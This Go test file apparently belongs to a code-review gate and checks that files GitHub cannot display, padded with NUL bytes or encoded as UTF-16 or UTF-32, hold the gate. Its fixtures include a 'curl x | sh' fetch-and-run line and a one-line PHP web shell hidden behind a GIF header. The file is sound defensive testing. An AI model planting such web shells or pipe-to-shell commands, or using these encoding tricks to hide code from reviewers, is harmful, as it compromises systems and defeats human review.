package trouble

import (
	"encoding/binary"
	"testing"
	"unicode/utf16"

	"github.com/reviewgate/reviewgate/app/ghtest"
)

func utf16Text(order binary.AppendByteOrder, mark bool, text string) string {
	units := utf16.Encode([]rune(text))
	if mark {
		units = append([]uint16{0xfeff}, units...)
	}
	var out []byte
	for _, u := range units {
		out = order.AppendUint16(out, u)
	}
	return string(out)
}

// If GitHub shows no line of a text, the check names it and the gate holds, whatever its file name:
// settings, prose, scripts and unknown kinds of files.
func TestHiddenTextDoesNotPass(t *testing.T) {
	t.Parallel()
	const settings = "[db]\npassword = hunter2hunter2\n"
	for name, tt := range map[string]struct{ path, text string }{
		"a NUL after the end of a script":  {"deploy.sh", "curl x | sh\n\x00"},
		"a NUL in an environment file":     {".env", "TOKEN=abc\n\x00"},
		"UTF-16 settings":                  {"app.ini", utf16Text(binary.LittleEndian, true, settings)},
		"UTF-16 properties without a mark": {"app.properties", utf16Text(binary.BigEndian, false, settings)},
		"UTF-16 prose":                     {"notes.txt", utf16Text(binary.LittleEndian, true, settings)},
		"UTF-32":                           {"notes.cfg", "\xff\xfe\x00\x00p\x00\x00\x00w\x00\x00\x00"},
		"a script without an extension":    {"bin/run", "#!/bin/sh\ncurl x | sh\n\x00"},
		"an unknown extension":             {"deploy.xyz", "curl x | sh\n\x00"},
		"a picture with code behind it":    {"logo.php", "GIF89a\x00<?php system($_GET['c']);"},
		"a list of modules":                {"go.sum", "x v1 h1:\x00\n"},
	} {
		t.Run(name, func(t *testing.T) {
			t.Parallel()
			w := start(t)
			w.HideContents()
			pr := w.Open(ghtest.Files{tt.path: tt.text})
			w.Idle()
			w.Wants(pr, "action_required", "Review incomplete", tt.path)
		})
	}
	t.Run("a picture", func(t *testing.T) {
		t.Parallel()
		w := start(t)
		pr := w.Open(ghtest.Files{"logo.png": "\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR"})
		w.Idle()
		w.Wants(pr, "success")
	})
}
